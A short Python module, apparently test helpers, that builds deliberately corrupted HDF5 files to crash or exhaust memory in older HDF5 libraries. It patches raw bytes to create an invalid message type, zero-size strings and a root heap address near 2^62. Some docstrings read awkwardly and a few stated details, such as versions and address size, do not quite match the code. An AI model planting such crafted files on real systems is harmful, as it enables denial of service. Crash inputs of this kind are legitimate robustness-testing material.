# SPDX-License-Identifier: BSD-3-Clause
"""Files that do harm in HDF5 1.10: in HDF5's first format, which has no checksums, a byte or
two are enough."""

import h5py

HARMFUL = h5py.version.hdf5_version_tuple < (1, 14, 0)  # later ones may have been mended


def add_crash(path, dataset):
    """Adds a dataset of strings in a compound. That a string takes no bytes, and that the message with the
    sizes is of a kind that there is not, HDF5 does not survive, at the latest when it ends."""
    with h5py.File(path, "a") as file:
        file.create_dataset(dataset, (3,), [("text", h5py.string_dtype())])
        at = h5py.h5o.get_info(file[dataset].id).addr
    with open(path, "r+b") as file:
        data = file.read()
        assert data[at : at + 2] == b"\1\0" and data[at + 16 : at + 18] == b"\1\0", "not the first format"
        file.seek(at + 16)
        file.write(b"\x7f")
        file.seek(data.index(b"\x19\1\1\0\x10\0\0\0", at) + 4)
        file.write(b"\0")


def heap_beyond_all_memory(path):
    """The names of the root group lie at an address of 2^62, HDF5 asks for as much memory."""
    with open(path, "r+b") as file:
        assert file.read(9) == b"\x89HDF\r\n\x1a\n\0", "not the first format"
        file.seek(128 + 6)
        file.write(b"\x7f")
